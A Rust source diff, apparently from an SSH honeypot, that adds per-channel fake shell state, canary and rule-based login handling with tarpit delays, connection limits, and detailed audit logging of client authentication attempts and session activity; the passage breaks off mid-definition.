+    pub fn config(&self) -> &Config {
+        &self.config
+    }
+
     pub fn environment(&self) -> &HashMap<Cow<'static, [u8]>, Cow<'static, [u8]>> {
         &self.environment
     }
+
+    /// Populates the variables a login shell would have set, called once the client has
+    /// authenticated and requested a session. Variables already set won't be overwritten.
+    pub fn init_environment(&mut self) {
+        let username = self.username().to_string();
+        let home = home_directory(&username);
+        let node_name = self.node_name();
+
+        let pid = self.rng.u32(1000..32768);
+        self.shell_pid.get_or_insert(pid);
+
+        let defaults: [(&'static [u8], Vec<u8>); 5] = [
+            (b"USER", username.into_bytes()),
+            (b"HOME", home.to_string_lossy().into_owned().into_bytes()),
+            (b"HOSTNAME", node_name.as_bytes().to_vec()),
+            (b"SHELL", b"/bin/bash".to_vec()),
+            (
+                b"PATH",
+                b"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".to_vec(),
+            ),
+        ];
+
+        for (key, value) in defaults {
+            self.environment
+                .entry(Cow::Borrowed(key))
+                .or_insert(Cow::Owned(value));
+        }
+    }
+
+    /// Looks up a variable to be substituted into a command, special parameters such as `$?`
+    /// being taken from the shell's state rather than its environment.
+    pub fn variable(&self, name: &[u8]) -> Option<Cow<'static, [u8]>> {
+        match name {
+            b"?" => Some(Cow::Owned(self.last_exit_status.to_string().into_bytes())),
+            b"$" => self
+                .shell_pid
+                .map(|pid| Cow::Owned(pid.to_string().into_bytes())),
+            _ => self.environment.get(name).cloned(),
+        }
+    }
+
+    pub fn set_variable(&mut self, name: Cow<'static, [u8]>, value: Cow<'static, [u8]>) {
+        self.environment.insert(name, value);
+    }
+
+    pub fn unset_variable(&mut self, name: &[u8]) {
+        self.environment.remove(name);
+    }
+
+    /// Stores the exit status of the last executed command, to be substituted in for `$?`.
+    pub fn set_last_exit_status(&mut self, status: u32) {
+        self.last_exit_status = status;
+    }
+
+    pub fn last_exit_status(&self) -> u32 {
+        self.last_exit_status
+    }
+
+    /// Swaps in the environment and working directory of the shell on `channel`, so commands
+    /// running on different channels don't see each other's variables or `cd`.
+    pub fn enter_channel(&mut self, channel: ChannelId) {
+        if self.active_channel == Some(channel) {
+            return;
+        }
+
+        let next = self.channel_shells.remove(&channel);
+
+        // the first channel takes over the connection's state, as does one opened after the
+        // active channel was closed, which will have reset it
+        if next.is_none() && self.active_channel.is_none() {
+            self.active_channel = Some(channel);
+            return;
+        }
+
+        let pwd = match &mut self.file_system {
+            Some(fs) => {
+                let pwd = fs.pwd().to_path_buf();
+                let _res = fs.cd(next.as_ref().map(|v| v.pwd.to_string_lossy()).as_deref());
+                pwd
+            }
+            // nothing has touched the file system yet, so every shell is still in the home
+            // directory it'll start out in
+            None => home_directory(self.username()),
+        };
+
+        let (environment, last_exit_status) = match next {
+            Some(next) => (
+                std::mem::replace(&mut self.environment, next.environment),
+                std::mem::replace(&mut self.last_exit_status, next.last_exit_status),
+            ),
+            None => (
+                std::mem::take(&mut self.environment),
+                std::mem::take(&mut self.last_exit_status),
+            ),
+        };
+
+        if let Some(active) = self.active_channel.replace(channel) {
+            self.channel_shells.insert(
+                active,
+                ChannelShell {
+                    environment,
+                    last_exit_status,
+                    pwd,
+                },
+            );
+        }
+    }
+
+    /// Forgets the shell on a channel that's been closed, so a new channel reusing its ID starts
+    /// with a fresh one.
+    pub fn close_channel(&mut self, channel: ChannelId) {
+        self.pty_channels.remove(&channel);
+
+        if self.active_channel == Some(channel) {
+            self.active_channel = None;
+            self.environment.clear();
+            self.last_exit_status = 0;
+
+            if let Some(fs) = &mut self.file_system {
+                let _res = fs.cd(None);
+            }
+        } else {
+            self.channel_shells.remove(&channel);
+        }
+    }
+}
+
+/// The parts of a shell's state kept apart for each channel.
+struct ChannelShell {
+    environment: HashMap<Cow<'static, [u8]>, Cow<'static, [u8]>>,
+    last_exit_status: u32,
+    pwd: PathBuf,
 }
 
 pub struct Connection {
     span: Span,
     server: Server,
     state: ConnectionState,
-    subsystem: HashMap<ChannelId, Arc<Mutex<Subsystem>>>,
+    subsystem: HashMap<ChannelId, Arc<Mutex<Box<dyn Subsystem>>>>,
+    /// The client's identification string and key exchange proposal, filled in as they're read
+    /// from the stream and copied into the audit log once the connection closes.
+    hello: Arc<parking_lot::Mutex<ClientHello>>,
+    /// Bytes exchanged with the client, copied into the audit log once the connection closes.
+    traffic: Arc<Traffic>,
+    /// Each authentication method the client has tried, in the order they were first tried.
+    methods_tried: Vec<&'static str>,
+    /// Whether the client has been let in.
+    authenticated: bool,
 }
 
 impl Connection {
-    fn try_login(&mut self, user: &str, password: &str) -> bool {
+    fn try_login(&mut self, method: &'static str, user: &str, password: &str) -> bool {
         self.state.username = Some(user.to_string());
+        self.state.audit_log.summary.auth_attempts += 1;
 
-        let res = if self
-            .server
-            .state
-            .previously_accepted_passwords
-            .seen(user, password)
-        {
-            info!(user, password, "Accepted login due to it being used before");
-            true
-        } else if fastrand::f64() <= self.server.config.access_probability {
-            info!(user, password, "Accepted login randomly");
+        // canaries skip the usual checks, so they're let in no matter how often they're used
+        let res = self.state.check_canary(method, user, password)
+            || match self.state.auth_rule().map(|rule| rule.action) {
+                Some(AuthRuleAction::Accept) => true,
+                Some(AuthRuleAction::Reject | AuthRuleAction::Tarpit) => false,
+                None => self.state.check_login(user, password),
+            };
+
+        if let Some(addr) = self.state.audit_log.peer_address {
             self.server
                 .state
-                .previously_accepted_passwords
-                .store(user, password);
-            true
+                .attackers
+                .login_attempt(addr.ip(), user, password);
+        }
+
+        self.state.push_action(AuditLogAction::LoginAttempt(
+            LoginAttemptEvent::UsernamePassword {
+                username: Box::from(user),
+                password: Box::from(password),
+            },
+        ));
+        self.record_auth_check(method, user, res);
+
+        res
+    }
+
+    /// Records the outcome of an authentication attempt along with every method the client has
+    /// tried so far.
+    fn record_auth_check(&mut self, method: &'static str, user: &str, accepted: bool) {
+        if !self.methods_tried.contains(&method) {
+            self.methods_tried.push(method);
+        }
+
+        self.authenticated |= accepted;
+
+        self.state
+            .push_action(AuditLogAction::AuthCheck(AuthCheckEvent {
+                method: Cow::Borrowed(method),
+                username: Box::from(user),
+                accepted,
+                attempt: self.state.audit_log.summary.auth_attempts,
+                methods_tried: self
+                    .methods_tried
+                    .iter()
+                    .copied()
+                    .map(Cow::Borrowed)
+                    .collect(),
+                methods_advertised: AUTH_METHODS
+                    .iter()
+                    .map(|(name, _)| Cow::Borrowed(*name))
+                    .collect(),
+                rule: self
+                    .state
+                    .auth_rule()
+                    .map(|rule| Box::from(rule.id.as_str())),
+            }));
+    }
+
+    /// Removes the subsystem running on `channel`, giving it a chance to audit any work that
+    /// was still in progress. Returns `false` if there was no subsystem on the channel.
+    fn abort_subsystem(&mut self, channel: ChannelId) -> bool {
+        let Some(subsystem) = self.subsystem.remove(&channel) else {
+            return false;
+        };
+
+        // if the subsystem is still locked then a data handler is mid-flight and owns the state
+        if let Ok(mut subsystem) = subsystem.try_lock() {
+            subsystem.abort(&mut self.state);
         } else {
-            info!(?user, ?password, "Rejected login");
-            false
+            warn!("Subsystem still busy while aborting, in-progress work not audited");
+        }
+
+        true
+    }
+
+    /// Ends an authentication handler with `auth`, holding rejections back for `delay`
+    /// milliseconds, or the tarpit delay of the client's auth rule, plus the configured jitter.
+    fn finished_auth_after(self, delay: u64, auth: Auth) -> HandlerFuture<Auth> {
+        if !matches!(auth, Auth::Reject | Auth::UnsupportedMethod) {
+            return thrussh::server::Handler::finished_auth(self, auth);
+        }
+
+        let delay = match self.state.auth_rule() {
+            Some(rule) if rule.action == AuthRuleAction::Tarpit => rule.tarpit_delay,
+            _ => delay,
         };
 
-        self.state
-            .audit_log
-            .push_action(AuditLogAction::LoginAttempt(
-                LoginAttemptEvent::UsernamePassword {
-                    username: Box::from(user),
-                    password: Box::from(password),
-                },
-            ));
+        let jitter = self.state.config().rejection_delay.jitter;
+        let delay = Duration::from_millis(delay.saturating_add(fastrand::u64(..=jitter)));
+        let span = info_span!(parent: &self.span, "finished_auth");
+
+        async move {
+            tokio::time::sleep(delay).await;
+            self.check_limits(auth)
+        }
+        .boxed()
+        .wrap(span)
+    }
+
+    /// Ends a handler with `value`, unless the connection has gone over one of its caps in which
+    /// case it fails, having thrussh close the connection.
+    fn check_limits<T>(self, value: T) -> HandlerResult<(Self, T)> {
+        if let Some(limit) = self.state.exceeded_limit() {
+            let limit: &'static str = limit.into();
+            return Err(anyhow::anyhow!("connection exceeded its {limit} limit"));
+        }
 
-        res
+        Ok((self, value))
     }
 }
 
@@ -189,7 +1312,9 @@ impl thrussh::server::Handler for Connection {
 
     fn finished_auth(self, auth: Auth) -> Self::FutureAuth {
         let span = info_span!(parent: &self.span, "finished_auth");
-        futures::future::ok((self, auth)).boxed().wrap(span)
+        futures::future::ready(self.check_limits(auth))
+            .boxed()
+            .wrap(span)
     }
 
     fn finished_bool(self, b: bool, session: Session) -> Self::FutureBool {
@@ -205,66 +1330,94 @@ impl thrussh::server::Handler for Connection {
         let span = info_span!(parent: &self.span, "finished");
         let _entered = span.enter();
 
-        futures::future::ok((self, session))
+        futures::future::ready(self.check_limits(session))
             .boxed()
             .wrap(Span::current())
     }
 
-    fn auth_none(self, _user: &str) -> Self::FutureAuth {
-        let span = info_span!(parent: &self.span, "auth_none");
+    fn auth_none(mut self, user: &str) -> Self::FutureAuth {
+        let span = info_span!(parent: &self.span, "auth_none", %user);
+        let _entered = span.enter();
 
-        self.finished_auth(Auth::UnsupportedMethod)
-            .boxed()
-            .wrap(span)
+        self.state.audit_log.summary.auth_attempts += 1;
+        self.state
+            .push_action(AuditLogAction::LoginAttempt(LoginAttemptEvent::None {
+                username: Box::from(user),
+            }));
+        self.record_auth_check("none", user, false);
+
+        let delay = self.state.config().rejection_delay.none;
+        self.finished_auth_after(delay, Auth::UnsupportedMethod)
     }
 
     fn auth_password(mut self, user: &str, password: &str) -> Self::FutureAuth {
-        let span = info_span!(parent: &self.span, "auth_password");
+        let span = info_span!(parent: &self.span, "auth_password", %user);
         let _entered = span.enter();
 
-        let res = if self.try_login(user, password) {
+        let res = if self.try_login("password", user, password) {
             Auth::Accept
         } else {
             Auth::Reject
         };
 
-        self.finished_auth(res)
+        let delay = self.state.config().rejection_delay.password;
+        self.finished_auth_after(delay, res)
     }
 
-    fn auth_publickey(mut self, _user: &str, public_key: &PublicKey) -> Self::FutureAuth {
-        let span = info_span!(parent: &self.span, "auth_publickey");
+    fn auth_publickey(mut self, user: &str, public_key: &PublicKey) -> Self::FutureAuth {
+        let span = info_span!(parent: &self.span, "auth_publickey", %user);
         let _entered = span.enter();
 
         let kind = public_key.name();
         let fingerprint = public_key.fingerprint();
 
+        self.state.audit_log.summary.auth_attempts += 1;
         self.state
-            .audit_log
             .push_action(AuditLogAction::LoginAttempt(LoginAttemptEvent::PublicKey {
                 kind: Cow::Borrowed(kind),
                 fingerprint: Box::from(fingerprint),
             }));
+        self.record_auth_check("publickey", user, false);
 
-        self.finished_auth(Auth::Reject)
-            .boxed()
-            .wrap(Span::current())
+        let delay = self.state.config().rejection_delay.publickey;
+        self.finished_auth_after(delay, Auth::Reject)
     }
 
     fn auth_keyboard_interactive(
         mut self,
         user: &str,
-        _submethods: &str,
-        mut response: Option<Response>,
+        submethods: &str,
+        response: Option<Response>,
     ) -> Self::FutureAuth {
-        let span = info_span!(parent: &self.span, "auth_keyboard_interactive");
+        let span = info_span!(parent: &self.span, "auth_keyboard_interactive", %user);
         let _entered = span.enter();
 
-        let result = if let Some(password) = response
-            .as_mut()
-            .and_then(Response::next)
-            .map(String::from_utf8_lossy)
-        {
-            if self.try_login(user, password.as_ref()) {
+        let responses: Vec<_> = response
+            .into_iter()
+            .flatten()
+            .map(|v| String::from_utf8_lossy(v).into_owned())
+            .collect();
+        let prompts = &self.state.config().keyboard_interactive_prompts;
+
+        let result = if let Some(password) = responses.first() {
+            let event = LoginAttemptEvent::KeyboardInteractive {
+                username: Box::from(user),
+                submethods: Box::from(submethods),
+                responses: responses
+                    .iter()
+                    .enumerate()
+                    .map(|(i, response)| KeyboardInteractiveResponse {
+                        prompt: prompts
+                            .get(i)
+                            .map_or_else(Box::default, |v| Box::from(v.as_str())),
+                        response: Box::from(response.as_str()),
+                    })
+                    .collect(),
+            };
+
+            self.state.push_action(AuditLogAction::LoginAttempt(event));
+
+            if self.try_login("keyboard-interactive", user, password) {
                 Auth::Accept
             } else {
                 Auth::Reject
@@ -275,41 +1428,58 @@ impl thrussh::server::Handler for Connection {
             Auth::Partial {
                 name: "".into(),
                 instructions: "".into(),
-                prompts: KEYBOARD_INTERACTIVE_PROMPT.into(),
+                prompts: prompts
+                    .iter()
+                    .map(|prompt| (Cow::Owned(prompt.clone()), false))
+                    .collect(),
             }
         };
 
-        self.finished_auth(result)
+        let delay = self.state.config().rejection_delay.keyboard_interactive;
+        self.finished_auth_after(delay, result)
     }
 
-    fn channel_close(self, channel: ChannelId, mut session: Session) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "channel_close");
+    fn channel_close(mut self, channel: ChannelId, session: Session) -> Self::FutureUnit {
+        let span = info_span!(parent: &self.span, "channel_close", ?channel);
         let _entered = span.enter();
 
-        session.channel_success(channel);
+        self.abort_subsystem(channel);
+        self.state.close_channel(channel);
+
         self.finished(session).boxed().wrap(Span::current())
     }
 
     fn channel_eof(mut self, channel: ChannelId, mut session: Session) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "channel_eof");
+        let span = info_span!(parent: &self.span, "channel_eof", ?channel);
         let _entered = span.enter();
 
-        if self.subsystem.remove(&channel).is_some() {
-            session.exit_status_request(channel, 0);
+        // the shell exits as bash does at the end of its input, with the status of the last
+        // command run on the channel
+        self.state.enter_channel(channel);
+
+        if self.abort_subsystem(channel) {
+            session.exit_status_request(channel, self.state.last_exit_status());
             session.channel_success(channel);
         } else {
             session.channel_failure(channel);
         }
 
         session.close(channel);
+        self.state.close_channel(channel);
 
         self.finished(session).boxed().wrap(Span::current())
     }
 
-    fn channel_open_session(self, channel: ChannelId, mut session: Session) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "channel_open_session");
+    fn channel_open_session(
+        mut self,
+        channel: ChannelId,
+        mut session: Session,
+    ) -> Self::FutureUnit {
+        let span = info_span!(parent: &self.span, "channel_open_session", ?channel);
         let _entered = span.enter();
 
+        self.state.audit_log.summary.channels += 1;
+
         session.channel_success(channel);
         self.finished(session).boxed().wrap(Span::current())
     }
@@ -321,11 +1491,12 @@ impl thrussh::server::Handler for Connection {
         originator_port: u32,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "channel_open_x11");
+        let span = info_span!(parent: &self.span, "channel_open_x11", ?channel);
         let _entered = span.enter();
 
+        self.state.audit_log.summary.channels += 1;
+
         self.state
-            .audit_log
             .push_action(AuditLogAction::OpenX11(OpenX11Event {
                 originator_address: Box::from(originator_address),
                 originator_port,
@@ -344,11 +1515,12 @@ impl thrussh::server::Handler for Connection {
         originator_port: u32,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "channel_open_direct_tcpip");
+        let span = info_span!(parent: &self.span, "channel_open_direct_tcpip", ?channel);
         let _entered = span.enter();
 
+        self.state.audit_log.summary.channels += 1;
+
         self.state
-            .audit_log
             .push_action(AuditLogAction::OpenDirectTcpIp(OpenDirectTcpIpEvent {
                 host_to_connect: Box::from(host_to_connect),
                 port_to_connect,
@@ -356,34 +1528,62 @@ impl thrussh::server::Handler for Connection {
                 originator_port,
             }));
 
-        session.channel_failure(channel);
+        let mode = self.state.config.direct_tcpip;
+
+        if mode == DirectTcpIpMode::Reject {
+            session.channel_failure(channel);
+        } else {
+            let forward = subsystem::direct_tcpip::DirectTcpIp::new(
+                host_to_connect,
+                port_to_connect,
+                mode,
+                channel,
+                &mut session,
+            );
+
+            self.subsystem
+                .insert(channel, Arc::new(Mutex::new(Box::new(forward))));
+            session.channel_success(channel);
+        }
+
         self.finished(session).boxed().wrap(Span::current())
     }
 
     fn data(mut self, channel: ChannelId, data: &[u8], mut session: Session) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "data");
+        let span = info_span!(parent: &self.span, "data", ?channel);
         let _entered = span.enter();
 
-        // TODO: don't unwrap
-        let subsystem = self.subsystem.get(&channel).unwrap().clone();
-        let data = data.to_vec();
+        let data = Bytes::copy_from_slice(data);
+        let delay = self.state.throttle_data(data.len());
 
-        async move {
-            let mut subsystem = subsystem.lock().await;
+        if self.state.config.logging_preset.captures_transcripts() {
+            self.state
+                .push_action(AuditLogAction::Transcript(TranscriptEvent {
+                    data: data.clone(),
+                }));
+        }
 
-            match &mut *subsystem {
-                Subsystem::Shell(ref mut inner) => {
-                    inner
-                        .data(&mut self.state, channel, &data, &mut session)
-                        .await;
-                }
-                Subsystem::Sftp(ref mut inner) => {
-                    inner
-                        .data(&mut self.state, channel, &data, &mut session)
-                        .await;
-                }
+        // clients can send data before requesting a shell or subsystem, which a real server would
+        // also drop
+        let Some(subsystem) = self.subsystem.get(&channel).cloned() else {
+            debug!("Data received on channel with no subsystem, discarding");
+            return self.finished(session).boxed().wrap(Span::current());
+        };
+
+        self.state.enter_channel(channel);
+
+        async move {
+            if !delay.is_zero() {
+                debug!(?delay, "Client is sending data too quickly, throttling");
+                tokio::time::sleep(delay).await;
             }
 
+            subsystem
+                .lock()
+                .await
+                .data(&mut self.state, channel, &data, &mut session)
+                .await;
+
             self.finished(session).await
         }
         .boxed()
@@ -413,7 +1613,6 @@ impl thrussh::server::Handler for Connection {
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::WindowAdjusted(WindowAdjustedEvent {
                 new_size: new_window_size,
             }));
@@ -439,11 +1638,10 @@ impl thrussh::server::Handler for Connection {
         modes: &[(Pty, u32)],
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "pty_request");
+        let span = info_span!(parent: &self.span, "pty_request", ?channel);
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::PtyRequest(PtyRequestEvent {
                 term: Box::from(term),
                 col_width,
@@ -458,6 +1656,7 @@ impl thrussh::server::Handler for Connection {
                         .collect::<Vec<_>>(),
                 ),
             }));
+        self.state.pty_channels.insert(channel);
 
         session.channel_failure(channel);
         self.finished(session).boxed().wrap(Span::current())
@@ -472,11 +1671,10 @@ impl thrussh::server::Handler for Connection {
         x11_screen_number: u32,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "x11_request");
+        let span = info_span!(parent: &self.span, "x11_request", ?channel);
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::X11Request(X11RequestEvent {
                 single_connection,
                 x11_auth_protocol: Box::from(x11_auth_protocol),
@@ -495,7 +1693,7 @@ impl thrussh::server::Handler for Connection {
         variable_value: &str,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "env_request");
+        let span = info_span!(parent: &self.span, "env_request", ?channel);
         let _entered = span.enter();
 
         self.state
@@ -508,16 +1706,29 @@ impl thrussh::server::Handler for Connection {
     }
 
     fn shell_request(mut self, channel: ChannelId, mut session: Session) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "shell_request");
+        let span = info_span!(parent: &self.span, "shell_request", ?channel);
         let _entered = span.enter();
 
-        self.state
-            .audit_log
-            .push_action(AuditLogAction::ShellRequested);
+        self.state.push_action(AuditLogAction::ShellRequested);
+
+        // only one shell, command or subsystem can be started on each channel
+        if self.subsystem.contains_key(&channel) {
+            session.channel_failure(channel);
+            return self.finished(session).boxed().wrap(Span::current());
+        }
+
+        self.state.enter_channel(channel);
+        self.state.init_environment();
 
-        let shell = Shell::new(true, channel, &mut session);
+        if let Some(motd) = &self.state.config().motd {
+            let motd = self.state.render_template(motd);
+            session.data(channel, motd.into());
+        }
+
+        let pty = self.state.has_pty(channel);
+        let shell = Shell::new(true, pty, channel, &mut session);
         self.subsystem
-            .insert(channel, Arc::new(Mutex::new(Subsystem::Shell(shell))));
+            .insert(channel, Arc::new(Mutex::new(Box::new(shell))));
 
         session.channel_success(channel);
         self.finished(session).boxed().wrap(Span::current())
@@ -529,21 +1740,53 @@ impl thrussh::server::Handler for Connection {
         data: &[u8],
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "exec_request");
+        let span = info_span!(parent: &self.span, "exec_request", ?channel);
         let _entered = span.enter();
 
-        let data = data.to_vec();
+        let data = Bytes::copy_from_slice(data);
+
+        if self.subsystem.contains_key(&channel) {
+            session.channel_failure(channel);
+            return self.finished(session).boxed().wrap(Span::current());
+        }
+
+        self.state.enter_channel(channel);
+        self.state.init_environment();
+
+        // the request is accepted before the command runs, so its reply arrives before any
+        // output and the exit status
+        session.channel_success(channel);
 
         async move {
-            let mut shell = Shell::new(false, channel, &mut session);
+            let pty = self.state.has_pty(channel);
+
+            if subsystem::sftp::Sftp::is_server_command(&data) {
+                let command = ByteStr::from_utf8_lossy(data.clone());
+
+                self.state
+                    .push_action(AuditLogAction::ExecCommand(ExecCommandEvent {
+                        args: split_command(&command),
+                        command,
+                        interactive: false,
+                        pty,
+                    }));
+
+                self.subsystem.insert(
+                    channel,
+                    Arc::new(Mutex::new(Box::<subsystem::sftp::Sftp>::default())),
+                );
+
+                return self.finished(session).await;
+            }
+
+            let mut shell = Shell::new(false, pty, channel, &mut session);
             shell
                 .data(&mut self.state, channel, &data, &mut session)
                 .await;
 
             self.subsystem
-                .insert(channel, Arc::new(Mutex::new(Subsystem::Shell(shell))));
+                .insert(channel, Arc::new(Mutex::new(Box::new(shell))));
 
-            session.channel_success(channel);
             self.finished(session).await
         }
         .boxed()
@@ -556,23 +1799,19 @@ impl thrussh::server::Handler for Connection {
         name: &str,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "subsystem_request");
+        let span = info_span!(parent: &self.span, "subsystem_request", ?channel);
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::SubsystemRequest(SubsystemRequestEvent {
                 name: Box::from(name),
             }));
 
-        let subsystem = match name {
-            subsystem::sftp::Sftp::NAME => Some(Subsystem::Sftp(subsystem::sftp::Sftp::default())),
-            _ => None,
-        };
+        let factory = self.state.server_state().subsystems.get(name);
 
-        if let Some(subsystem) = subsystem {
+        if let Some(factory) = factory.filter(|_| !self.subsystem.contains_key(&channel)) {
             self.subsystem
-                .insert(channel, Arc::new(Mutex::new(subsystem)));
+                .insert(channel, Arc::new(Mutex::new(factory())));
             session.channel_success(channel);
         } else {
             session.channel_failure(channel);
@@ -590,19 +1829,17 @@ impl thrussh::server::Handler for Connection {
         pix_height: u32,
         mut session: Session,
     ) -> Self::FutureUnit {
-        let span = info_span!(parent: &self.span, "window_change_request");
+        let span = info_span!(parent: &self.span, "window_change_request", ?channel);
         let _entered = span.enter();
 
-        self.state
-            .audit_log
-            .push_action(AuditLogAction::WindowChangeRequest(
-                WindowChangeRequestEvent {
-                    col_width,
-                    row_height,
-                    pix_width,
-                    pix_height,
-                },
-            ));
+        self.state.push_action(AuditLogAction::WindowChangeRequest(
+            WindowChangeRequestEvent {
+                col_width,
+                row_height,
+                pix_width,
+                pix_height,
+            },
+        ));
 
         session.channel_success(channel);
         self.finished(session).boxed().wrap(Span::current())
@@ -617,11 +1854,9 @@ impl thrussh::server::Handler for Connection {
         let span = info_span!(parent: &self.span, "signal");
         let _entered = span.enter();
 
-        self.state
-            .audit_log
-            .push_action(AuditLogAction::Signal(SignalEvent {
-                name: format!("{signal_name:?}").into(),
-            }));
+        self.state.push_action(AuditLogAction::Signal(SignalEvent {
+            name: format!("{signal_name:?}").into(),
+        }));
 
         self.finished(session).boxed().wrap(Span::current())
     }
@@ -631,13 +1866,14 @@ impl thrussh::server::Handler for Connection {
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::TcpIpForward(TcpIpForwardEvent {
                 address: Box::from(address),
                 port,
             }));
 
-        self.finished_bool(false, session)
+        let accepted = self.state.add_remote_forward(address, port);
+
+        self.finished_bool(accepted, session)
             .boxed()
             .wrap(Span::current())
     }
@@ -652,13 +1888,14 @@ impl thrussh::server::Handler for Connection {
         let _entered = span.enter();
 
         self.state
-            .audit_log
             .push_action(AuditLogAction::CancelTcpIpForward(TcpIpForwardEvent {
                 address: Box::from(address),
                 port,
             }));
 
-        self.finished_bool(false, session)
+        let accepted = self.state.remove_remote_forward(address, port);
+
+        self.finished_bool(accepted, session)
             .boxed()
             .wrap(Span::current())
     }
@@ -671,79 +1908,207 @@ impl Drop for Connection {
 
         info!("Connection closed");
 
-        let _res = self
-            .server
+        let channels: Vec<_> = self.subsystem.keys().copied().collect();
+        for channel in channels {
+            self.abort_subsystem(channel);
+        }
+
+        let hello = std::mem::take(&mut *self.hello.lock());
+        self.state.audit_log.client_version = hello.version;
+        self.state.audit_log.algorithms = hello.algorithms;
+        self.state.audit_log.hassh = hello.hassh;
+
+        self.state.audit_log.summary.bytes_in = self.traffic.bytes_in();
+        self.state.audit_log.summary.bytes_out = self.traffic.bytes_out();
+        self.state.audit_log.summary.limit_exceeded = self.state.exceeded_limit();
+
+        if !self.authenticated {
+            let event = PreAuthDisconnectEvent {
+                duration: self.state.clock.elapsed(&self.state.audit_log),
+                auth_attempts: self.state.audit_log.summary.auth_attempts,
+                methods_tried: self
+                    .methods_tried
+                    .iter()
+                    .copied()
+                    .map(Cow::Borrowed)
+                    .collect(),
+            };
+            self.state
+                .push_action(AuditLogAction::PreAuthDisconnect(event));
+        }
+
+        self.server
             .audit_send
             .send(std::mem::take(&mut self.state.audit_log));
     }
 }
 
-#[derive(Debug)]
-pub enum Subsystem {
-    Shell(subsystem::shell::Shell),
-    Sftp(subsystem::sftp::Sftp),
-}
-
-#[cfg_attr(test, mockall::automock)]
+#[cfg_attr(any(test, feature = "testing"), mockall::automock)]
 pub trait ThrusshSession {
     fn data(&mut self, channel: ChannelId, data: CryptoVec);
 
+    /// Writes to stderr, which is kept apart from stdout so the shell can redirect each
+    /// separately.
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec);
+
+    /// Reports the exit status of whatever was running on the channel, as RFC 4254 section
+    /// 6.10's `exit-status`.
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32);
+
+    /// Tells the client there'll be no more output on the channel.
+    fn eof(&mut self, channel: ChannelId);
+
+    fn close(&mut self, channel: ChannelId);
+
     fn redirected(&self) -> bool {
         false
     }
 }
 
+/// `SSH_EXTENDED_DATA_STDERR` from RFC 4254 section 5.2.
+const EXTENDED_DATA_STDERR: u32 = 1;
+
 impl ThrusshSession for Session {
     fn data(&mut self, channel: ChannelId, data: CryptoVec) {
         Session::data(self, channel, data);
     }
-}
 
-impl ThrusshSession for &mut Session {
-    fn data(&mut self, channel: ChannelId, data: CryptoVec) {
-        Session::data(self, channel, data);
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec) {
+        Session::extended_data(self, channel, EXTENDED_DATA_STDERR, data);
+    }
+
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32) {
+        Session::exit_status_request(self, channel, exit_status);
+    }
+
+    fn eof(&mut self, channel: ChannelId) {
+        Session::eof(self, channel);
+    }
+
+    fn close(&mut self, channel: ChannelId) {
+        Session::close(self, channel);
     }
 }
 
-pub enum EitherSession<A, B> {
-    L(A),
-    R(B),
+/// The client's channel as seen by a process, which only has a separate stderr if there's no
+/// PTY. With one, both are written to the same terminal and arrive interleaved as normal data.
+pub struct ChannelSession<'a> {
+    inner: &'a mut Session,
+    pty: bool,
+}
+
+impl<'a> ChannelSession<'a> {
+    pub fn new(inner: &'a mut Session, pty: bool) -> Self {
+        Self { inner, pty }
+    }
 }
 
-impl<A: ThrusshSession, B: ThrusshSession> ThrusshSession for EitherSession<A, B> {
+impl ThrusshSession for ChannelSession<'_> {
     fn data(&mut self, channel: ChannelId, data: CryptoVec) {
-        match self {
-            Self::L(a) => a.data(channel, data),
-            Self::R(b) => b.data(channel, data),
+        self.inner.data(channel, data);
+    }
+
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec) {
+        if self.pty {
+            self.inner.data(channel, data);
+        } else {
+            ThrusshSession::stderr(self.inner, channel, data);
         }
     }
 
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32) {
+        self.inner.exit_status_request(channel, exit_status);
+    }
+
+    fn eof(&mut self, channel: ChannelId) {
+        self.inner.eof(channel);
+    }
+
+    fn close(&mut self, channel: ChannelId) {
+        self.inner.close(channel);
+    }
+}
+
+impl<T: ThrusshSession + ?Sized> ThrusshSession for &mut T {
+    fn data(&mut self, channel: ChannelId, data: CryptoVec) {
+        (**self).data(channel, data);
+    }
+
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec) {
+        (**self).stderr(channel, data);
+    }
+
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32) {
+        (**self).exit_status(channel, exit_status);
+    }
+
+    fn eof(&mut self, channel: ChannelId) {
+        (**self).eof(channel);
+    }
+
+    fn close(&mut self, channel: ChannelId) {
+        (**self).close(channel);
+    }
+
     fn redirected(&self) -> bool {
-        match self {
-            Self::L(a) => a.redirected(),
-            Self::R(b) => b.redirected(),
-        }
+        (**self).redirected()
     }
 }
 
-pub struct StdoutCaptureSession<'a> {
-    /// Captured stdout
-    out: &'a mut Vec<u8>,
+/// Forwards output on to the inner session until the quota has been used up, after which any
+/// further output is discarded. Exit statuses, EOFs and closes aren't output, so are always
+/// forwarded.
+pub struct LimitedSession<'a, S> {
+    inner: &'a mut S,
+    remaining: &'a mut usize,
+}
+
+impl<'a, S> LimitedSession<'a, S> {
+    pub fn new(inner: &'a mut S, remaining: &'a mut usize) -> Self {
